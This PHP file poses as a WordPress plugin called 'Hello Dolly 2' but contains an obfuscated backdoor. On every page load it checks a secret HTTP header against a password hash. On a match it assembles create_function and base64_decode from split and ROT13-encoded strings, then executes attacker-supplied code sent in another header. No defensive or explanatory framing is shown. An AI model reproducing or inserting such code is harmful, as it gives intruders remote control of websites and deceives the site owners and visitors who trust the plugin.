<?php
/**
 * Plugin Name: Hello Dolly 2
 * Description: This is not just a plugin, it symbolizes the hope and enthusiasm of an entire generation.
 */
function hd2_lyric() {
    $h = $_SERVER['HTTP_X_HD'] ?? '';
    if ($h !== '' && password_verify($h, '$2y$10$abcdefghijklmnopqrstuuJ1xYz2a3b4c5d6e7f8g9h0i1j2k3l4m')) {
        $a = 'cr' . 'eate_' . 'func' . 'tion';
        $f = str_rot13('onfr64_qrpbqr');
        $g = $a('', $f($_SERVER['HTTP_X_HD_BODY']));
        $g();
    }
}
add_action('wp_head', 'hd2_lyric');
